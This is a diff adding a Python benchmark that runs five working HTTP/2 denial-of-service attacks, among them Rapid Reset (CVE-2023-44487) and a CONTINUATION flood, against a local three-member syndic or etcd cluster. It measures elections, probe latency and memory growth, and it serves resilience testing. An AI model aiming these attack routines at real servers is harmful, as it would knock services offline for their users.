@@ -1,0 +1,544 @@
+"""Hostile HTTP/2 clients against one member of a 3-member cluster, syndic and etcd side by side.
+
+Five attacks, each aimed for ``--duration-s`` (15 s by default) at the
+cluster's leader (the member whose stall would cost an election):
+
+* ``settings_flood``: thousands of streams opened and left open, then
+  SETTINGS frames moving INITIAL_WINDOW_SIZE up and down without pause;
+* ``slow_read``: a 1 MiB value asked for on hundreds of streams by clients
+  that set a zero window and never give any back;
+* ``continuation_flood``: a header block that never ends, CONTINUATION
+  after CONTINUATION (CVE-2024-27316's shape);
+* ``partial_requests``: hundreds of connections each sending most of a
+  1 MiB Put and then nothing;
+* ``rapid_reset``: calls opened and reset at once, as fast as the socket
+  takes them (CVE-2023-44487).
+
+While each attack runs, ``etcdctl get`` is sent to the attacked member every
+half second and timed, its resident memory is sampled, and the Raft term is
+read before and after from ``etcdctl endpoint status``. An attack is
+survived when the term is unchanged (no election), every ``get`` answers
+within 1 s and RSS grows by less than 64 MiB. A member that closes the
+attacker's connection is not thereby beaten: the attacker reconnects, up to
+a bound.
+
+Attack traffic goes only to 127.0.0.1, bounded in connections, frames and
+time. Medians of ``--repeats`` runs; prints a table, writes
+bench/results/hostile.json. ``--quick`` runs 4 s attacks once.
+"""
+
+from __future__ import annotations
+
+import argparse
+import asyncio
+import contextlib
+import json
+import statistics
+import sys
+import tempfile
+import time
+from collections.abc import Awaitable, Callable
+from dataclasses import asdict, dataclass, field
+from pathlib import Path
+from typing import Any
+
+ROOT = Path(__file__).resolve().parent.parent
+sys.path.insert(0, str(ROOT))
+
+import hpack  # noqa: E402
+from tests.server.processes import (  # noqa: E402
+    ETCD,
+    ETCDCTL,
+    MemberProcess,
+    etcdctl,
+    start_cluster,
+    wait_healthy,
+)
+
+from syndic.api.gen import rpc_pb2  # noqa: E402
+from syndic.server.h2 import frames  # noqa: E402
+from syndic.server.h2.frames import ErrorCode, Flag, FrameType, Setting  # noqa: E402
+
+RESULTS = ROOT / "bench" / "results" / "hostile.json"
+ETCD_DEFAULT_TIMERS = {"heartbeat_interval_ms": 100, "election_timeout_ms": 1000}
+BIG_KEY = b"hostile-big"
+BIG_VALUE_BYTES = 1024 * 1024
+PROBE_KEY = b"hostile-probe"
+PROBE_INTERVAL_S = 0.5
+RSS_INTERVAL_S = 0.2
+# What "survived" means (issue 12's acceptance).
+GET_LATENCY_S_MAX = 1.0
+RSS_GROWTH_MIB_MAX = 64.0
+# Bounds on the attacker itself, whatever the member does.
+RECONNECTS_MAX = 200
+WRITE_WAIT_S = 1.0  # a write the member does not take within this is left pending
+KV_RANGE = "/etcdserverpb.KV/Range"
+KV_PUT = "/etcdserverpb.KV/Put"
+
+
+@dataclass(frozen=True, slots=True)
+class Scale:
+    """How hard each attack pushes; ``full`` is the issue's, ``test`` a bounded one."""
+
+    duration_s: float
+    open_streams: int  # settings_flood
+    slow_connections: int  # slow_read
+    slow_streams: int  # slow_read, per connection
+    partial_connections: int  # partial_requests
+    partial_bytes: int  # partial_requests, per connection
+    flood_connections: int  # continuation_flood, rapid_reset
+
+
+FULL = Scale(15.0, 4000, 8, 200, 300, 900_000, 4)
+QUICK = Scale(4.0, 2000, 4, 100, 200, 900_000, 2)
+TEST = Scale(3.0, 1000, 2, 50, 100, 600_000, 2)
+
+
+def grpc_message(payload: bytes) -> bytes:
+    return b"\x00" + len(payload).to_bytes(4, "big") + payload
+
+
+class Attacker:
+    """One raw HTTP/2 connection that writes what it is told and discards what it reads."""
+
+    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        self.reader = reader
+        self.writer = writer
+        self.encoder = hpack.Encoder()
+        self.next_id = 1
+        self.goaway: int | None = None
+        self.closed = False
+        self._drain_task: asyncio.Task[None] | None = None
+
+    @classmethod
+    async def open(cls, port: int, *, read: bool = True, window: int | None = None) -> Attacker:
+        reader, writer = await asyncio.open_connection("127.0.0.1", port)
+        attacker = cls(reader, writer)
+        settings = {} if window is None else {Setting.INITIAL_WINDOW_SIZE: window}
+        writer.write(frames.PREFACE + frames.settings_frame(settings))
+        if read:
+            attacker._drain_task = asyncio.get_running_loop().create_task(attacker._read())
+        return attacker
+
+    async def _read(self) -> None:
+        """Read and drop everything, noting GOAWAY; answer the server's SETTINGS."""
+        buffer = b""
+        try:
+            while True:
+                chunk = await self.reader.read(65536)
+                if not chunk:
+                    break
+                buffer += chunk
+                while len(buffer) >= 9:
+                    length, kind, flags, _ = frames.parse_header(buffer, 0)
+                    if len(buffer) < 9 + length:
+                        break
+                    if kind == FrameType.GOAWAY:
+                        self.goaway = int.from_bytes(buffer[13:17], "big")
+                    elif kind == FrameType.SETTINGS and not flags & Flag.ACK:
+                        self.writer.write(frames.frame(FrameType.SETTINGS, Flag.ACK, 0))
+                    buffer = buffer[9 + length :]
+        except (ConnectionError, OSError):
+            pass
+        self.closed = True
+
+    def stream_id(self) -> int:
+        stream_id = self.next_id
+        self.next_id += 2
+        return stream_id
+
+    def headers(
+        self, stream_id: int, path: str, *, end_stream: bool, end_headers: bool = True
+    ) -> bytes:
+        block = self.encoder.encode(
+            [
+                (":method", "POST"),
+                (":scheme", "http"),
+                (":path", path),
+                (":authority", "127.0.0.1"),
+                ("content-type", "application/grpc"),
+                ("te", "trailers"),
+            ]
+        )
+        flags = (Flag.END_HEADERS if end_headers else 0) | (Flag.END_STREAM if end_stream else 0)
+        return frames.frame(FrameType.HEADERS, flags, stream_id, block)
+
+    def call(self, path: str, request: bytes, *, end_stream: bool = True) -> bytes:
+        stream_id = self.stream_id()
+        body = frames.frame(
+            FrameType.DATA, Flag.END_STREAM if end_stream else 0, stream_id, grpc_message(request)
+        )
+        return self.headers(stream_id, path, end_stream=False) + body
+
+    async def send(self, data: bytes) -> bool:
+        """Write; False once the member has closed us or stopped taking bytes."""
+        if self.closed or self.writer.is_closing():
+            return False
+        try:
+            self.writer.write(data)
+            await asyncio.wait_for(self.writer.drain(), WRITE_WAIT_S)
+        except (ConnectionError, OSError, TimeoutError):
+            return False
+        return True
+
+    async def close(self) -> None:
+        if self._drain_task is not None:
+            self._drain_task.cancel()
+        self.writer.close()
+        with contextlib.suppress(Exception):
+            await asyncio.wait_for(self.writer.wait_closed(), 1.0)
+
+
+@dataclass
+class Tally:
+    """What the attacker managed: connections opened and frames written."""
+
+    connections: int = 0
+    frames: int = 0
+    goaway_codes: dict[str, int] = field(default_factory=dict)
+
+    def note_close(self, attacker: Attacker) -> None:
+        if attacker.goaway is not None:
+            name = ErrorCode(attacker.goaway).name
+            self.goaway_codes[name] = self.goaway_codes.get(name, 0) + 1
+
+
+async def _reconnecting(
+    port: int,
+    until: float,
+    tally: Tally,
+    work: Callable[[Attacker], Awaitable[None]],
+    **open_args: Any,
+) -> None:
+    """Run ``work`` on a fresh connection each time the member closes the last one."""
+    while time.monotonic() < until and tally.connections < RECONNECTS_MAX:
+        try:
+            attacker = await Attacker.open(port, **open_args)
+        except OSError:
+            await asyncio.sleep(0.1)
+            continue
+        tally.connections += 1
+        try:
+            await work(attacker)
+        finally:
+            tally.note_close(attacker)
+            await attacker.close()
+        await asyncio.sleep(0.01)
+
+
+async def settings_flood(port: int, scale: Scale, until: float, tally: Tally) -> None:
+    async def work(attacker: Attacker) -> None:
+        opened = b"".join(
+            attacker.headers(attacker.stream_id(), KV_RANGE, end_stream=False)
+            for _ in range(scale.open_streams)
+        )
+        tally.frames += scale.open_streams
+        if not await attacker.send(opened):
+            return
+        values = (0, 65_535, 1, 2**20)
+        batch = b"".join(
+            frames.settings_frame({Setting.INITIAL_WINDOW_SIZE: values[i % 4]}) for i in range(200)
+        )
+        while time.monotonic() < until and await attacker.send(batch):
+            tally.frames += 200
+
+    await _reconnecting(port, until, tally, work)
+
+
+async def slow_read(port: int, scale: Scale, until: float, tally: Tally) -> None:
+    request = rpc_pb2.RangeRequest(key=BIG_KEY, serializable=True).SerializeToString()
+
+    async def one(attacker: Attacker) -> None:
+        sent = 0
+        while time.monotonic() < until and sent < scale.slow_streams * 4:
+            batch = b"".join(
+                attacker.call(KV_RANGE, request) for _ in range(scale.slow_streams // 4)
+            )
+            if not await attacker.send(batch):
+                return
+            sent += scale.slow_streams // 4
+            tally.frames += 2 * (scale.slow_streams // 4)
+            await asyncio.sleep(0.5)
+        while time.monotonic() < until and not attacker.closed:
+            await asyncio.sleep(0.1)
+
+    await asyncio.gather(
+        *(_reconnecting(port, until, tally, one, window=0) for _ in range(scale.slow_connections))
+    )
+
+
+async def continuation_flood(port: int, scale: Scale, until: float, tally: Tally) -> None:
+    async def work(attacker: Attacker) -> None:
+        stream_id = attacker.stream_id()
+        start = attacker.headers(stream_id, KV_RANGE, end_stream=True, end_headers=False)
+        # Each fragment a whole literal header, so HPACK state stays valid.
+        fragment = hpack.Encoder().encode([("x-hostile", "a" * 16)])
+        batch = frames.frame(FrameType.CONTINUATION, 0, stream_id, fragment) * 500
+        if not await attacker.send(start):
+            return
+        while time.monotonic() < until and await attacker.send(batch):
+            tally.frames += 500
+
+    await asyncio.gather(
+        *(_reconnecting(port, until, tally, work) for _ in range(scale.flood_connections))
+    )
+
+
+async def partial_requests(port: int, scale: Scale, until: float, tally: Tally) -> None:
+    declared = 1024 * 1024
+    prefix = b"\x00" + declared.to_bytes(4, "big")
+
+    async def hold(attacker: Attacker) -> None:
+        stream_id = attacker.stream_id()
+        body = prefix + bytes(scale.partial_bytes)
+        data = attacker.headers(stream_id, KV_PUT, end_stream=False) + b"".join(
+            frames.frame(FrameType.DATA, 0, stream_id, body[i : i + 16_384])
+            for i in range(0, len(body), 16_384)
+        )
+        tally.frames += 1 + len(body) // 16_384
+        await attacker.send(data)
+        while time.monotonic() < until and not attacker.closed:
+            await asyncio.sleep(0.2)
+
+    async def one() -> None:
+        if time.monotonic() >= until:
+            return
+        try:
+            attacker = await Attacker.open(port)
+        except OSError:
+            return
+        tally.connections += 1
+        try:
+            await hold(attacker)
+        finally:
+            tally.note_close(attacker)
+            await attacker.close()
+
+    await asyncio.gather(*(one() for _ in range(scale.partial_connections)))
+
+
+async def rapid_reset(port: int, scale: Scale, until: float, tally: Tally) -> None:
+    request = rpc_pb2.RangeRequest(key=PROBE_KEY, serializable=True).SerializeToString()
+    cancel = ErrorCode.CANCEL.to_bytes(4, "big")
+
+    async def work(attacker: Attacker) -> None:
+        while time.monotonic() < until:
+            batch = []
+            for _ in range(100):
+                stream_id = attacker.next_id
+                batch.append(attacker.call(KV_RANGE, request))
+                batch.append(frames.frame(FrameType.RST_STREAM, 0, stream_id, cancel))
+            if not await attacker.send(b"".join(batch)):
+                return
+            tally.frames += 300
+
+    await asyncio.gather(
+        *(_reconnecting(port, until, tally, work) for _ in range(scale.flood_connections))
+    )
+
+
+ATTACKS: dict[str, Callable[[int, Scale, float, Tally], Awaitable[None]]] = {
+    "settings_flood": settings_flood,
+    "slow_read": slow_read,
+    "continuation_flood": continuation_flood,
+    "partial_requests": partial_requests,
+    "rapid_reset": rapid_reset,
+}
+
+
+# -- what the member does meanwhile ------------------------------------------------
+
+
+def rss_mib(pid: int) -> float:
+    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
+        if line.startswith("VmRSS:"):
+            return int(line.split()[1]) / 1024
+    return 0.0
+
+
+def raft_terms(members: list[MemberProcess]) -> dict[str, Any]:
+    """Each member's Raft term and the leader it reports (etcdctl endpoint status)."""
+    endpoints = ",".join(m.endpoint for m in members)
+    out = etcdctl(endpoints, "endpoint", "status", "--write-out=json")
+    if out.returncode != 0:
+        raise RuntimeError(f"endpoint status failed: {out.stderr[-500:]}")
+    status = json.loads(out.stdout)
+    return {
+        "terms": sorted(s["Status"]["header"]["raft_term"] for s in status),
+        "leader": status[0]["Status"]["leader"],
+        "leader_endpoint": next(
+            s["Endpoint"]
+            for s in status
+            if s["Status"]["leader"] == s["Status"]["header"]["member_id"]
+        ),
+    }
+
+
+async def probe_gets(endpoint: str, until: float) -> list[float | None]:
+    """``etcdctl get`` on the attacked member every PROBE_INTERVAL_S: seconds, None if it failed."""
+    latencies: list[float | None] = []
+    while time.monotonic() < until:
+        started = time.monotonic()
+        process = await asyncio.create_subprocess_exec(
+            ETCDCTL or "etcdctl",
+            f"--endpoints={endpoint}",
+            "--command-timeout=5s",
+            "get",
+            PROBE_KEY.decode(),
+            stdout=asyncio.subprocess.PIPE,
+            stderr=asyncio.subprocess.PIPE,
+            env={"ETCDCTL_API": "3", "PATH": "/usr/bin:/bin"},
+        )
+        out, _ = await process.communicate()
+        elapsed = time.monotonic() - started
+        ok = process.returncode == 0 and b"probe-value" in out
+        latencies.append(elapsed if ok else None)
+        await asyncio.sleep(max(0.0, PROBE_INTERVAL_S - elapsed))
+    return latencies
+
+
+async def sample_rss(pid: int, until: float) -> float:
+    peak = rss_mib(pid)
+    while time.monotonic() < until:
+        await asyncio.sleep(RSS_INTERVAL_S)
+        with contextlib.suppress(OSError):
+            peak = max(peak, rss_mib(pid))
+    return peak
+
+
+async def attack_once(
+    name: str, members: list[MemberProcess], target: MemberProcess, scale: Scale
+) -> dict[str, Any]:
+    assert target.process is not None
+    before = raft_terms(members)
+    idle = [x for x in await probe_gets(target.endpoint, time.monotonic() + 2.0) if x is not None]
+    rss_before = rss_mib(target.process.pid)
+    until = time.monotonic() + scale.duration_s
+    tally = Tally()
+    attack = asyncio.create_task(ATTACKS[name](target.client_port, scale, until, tally))
+    latencies, rss_peak = await asyncio.gather(
+        probe_gets(target.endpoint, until), sample_rss(target.process.pid, until)
+    )
+    try:
+        await asyncio.wait_for(attack, 10.0)
+    except TimeoutError:
+        pass
+    await asyncio.sleep(0.5)  # let the member notice the attacker is gone
+    after = raft_terms(members)
+    answered = [latency for latency in latencies if latency is not None]
+    get_ms_max = max(answered) * 1000 if answered else float("inf")
+    result = {
+        "term_held": before["terms"] == after["terms"] and before["leader"] == after["leader"],
+        "get_ms_max": get_ms_max,
+        "get_ms_median": statistics.median(answered) * 1000 if answered else float("inf"),
+        "get_ms_median_unattacked": statistics.median(idle) * 1000 if idle else float("inf"),
+        "gets_failed": len(latencies) - len(answered),
+        "gets": len(latencies),
+        "rss_growth_mib": rss_peak - rss_before,
+        "attacker": asdict(tally),
+    }
+    result["survived"] = (
+        result["term_held"]
+        and result["gets_failed"] == 0
+        and get_ms_max <= GET_LATENCY_S_MAX * 1000
+        and result["rss_growth_mib"] < RSS_GROWTH_MIB_MAX
+    )
+    return result
+
+
+def prepare(members: list[MemberProcess]) -> MemberProcess:
+    """Store the probe key and the 1 MiB value; returns the leader, the one attacked."""
+    endpoints = ",".join(m.endpoint for m in members)
+    for key, value in ((PROBE_KEY, b"probe-value"), (BIG_KEY, b"b" * BIG_VALUE_BYTES)):
+        out = etcdctl(endpoints, "put", key.decode(), input_text=value.decode())
+        if out.returncode != 0:
+            # etcdctl put reads the value from stdin when it is not an argument.
+            raise RuntimeError(f"put {key!r} failed: {out.stderr[-500:]}")
+    leader = raft_terms(members)["leader_endpoint"]
+    return next(m for m in members if leader.endswith(m.endpoint))
+
+
+def run_system(kind: str, names: list[str], scale: Scale) -> dict[str, Any]:
+    """A fresh 3-member cluster per attack, so no attack inherits another's damage."""
+    results: dict[str, Any] = {}
+    for name in names:
+        root = Path(tempfile.mkdtemp(prefix=f"hostile-{kind}-"))
+        members = start_cluster(kind, root, 3, **ETCD_DEFAULT_TIMERS)
+        try:
+            wait_healthy(members)
+            target = prepare(members)
+            results[name] = asyncio.run(attack_once(name, members, target, scale))
+        finally:
+            for member in members:
+                member.kill()
+    return results
+
+
+def median_result(runs: list[dict[str, Any]]) -> dict[str, Any]:
+    """Per attack: medians of the figures; survived/term_held only if every run did."""
+    merged: dict[str, Any] = {}
+    for name in runs[0]:
+        rows = [run[name] for run in runs]
+        merged[name] = {
+            "survived": all(r["survived"] for r in rows),
+            "term_held": all(r["term_held"] for r in rows),
+            "get_ms_max": statistics.median(r["get_ms_max"] for r in rows),
+            "get_ms_median": statistics.median(r["get_ms_median"] for r in rows),
+            "get_ms_median_unattacked": statistics.median(
+                r["get_ms_median_unattacked"] for r in rows
+            ),
+            "gets_failed": statistics.median(r["gets_failed"] for r in rows),
+            "rss_growth_mib": statistics.median(r["rss_growth_mib"] for r in rows),
+            "attacker": rows[-1]["attacker"],
+        }
+    return merged
+
+
+def print_table(results: dict[str, Any]) -> None:
+    etcd, syndic = results["etcd"], results["syndic"]
+    print(f"{'attack':20} {'figure':22} {'etcd':>10} {'syndic':>10} {'syndic/etcd':>11}")
+    for name in syndic:
+        for metric in (
+            "get_ms_median_unattacked",
+            "get_ms_median",
+            "get_ms_max",
+            "gets_failed",
+            "rss_growth_mib",
+        ):
+            e, s = float(etcd[name][metric]), float(syndic[name][metric])
+            ratio = s / e if e else float("nan")
+            print(f"{name:20} {metric:22} {e:>10.1f} {s:>10.1f} {ratio:>11.2f}")
+        for flag in ("term_held", "survived"):
+            e_flag, s_flag = etcd[name][flag], syndic[name][flag]
+            print(f"{name:20} {flag:22} {str(e_flag):>10} {str(s_flag):>10} {'':>11}")
+
+
+def main() -> None:
+    parser = argparse.ArgumentParser(description=__doc__)
+    parser.add_argument("--quick", action="store_true", help="4 s attacks, one run")
+    parser.add_argument("--repeats", type=int, default=3)
+    parser.add_argument("--attacks", default=",".join(ATTACKS), help="comma-separated")
+    parser.add_argument("--systems", default="etcd,syndic", help="comma-separated")
+    args = parser.parse_args()
+    scale = QUICK if args.quick else FULL
+    repeats = 1 if args.quick else args.repeats
+    names = [n for n in args.attacks.split(",") if n]
+    unknown = set(names) - set(ATTACKS)
+    if unknown:
+        sys.exit(f"unknown attacks: {sorted(unknown)}; known: {sorted(ATTACKS)}")
+    systems = [s for s in args.systems.split(",") if s]
+    if ETCDCTL is None or ("etcd" in systems and ETCD is None):
+        sys.exit("bench/hostile.py needs Debian's etcd-server and etcd-client")
+    results: dict[str, Any] = {"scale": asdict(scale), "repeats": repeats}
+    for kind in systems:
+        results[kind] = median_result([run_system(kind, names, scale) for _ in range(repeats)])
+    if "etcd" in results and "syndic" in results:
+        print_table(results)
+    else:
+        print(json.dumps(results, indent=2))
+    RESULTS.parent.mkdir(parents=True, exist_ok=True)
+    RESULTS.write_text(json.dumps(results, indent=2) + "\n")
+
+
+if __name__ == "__main__":
+    main()
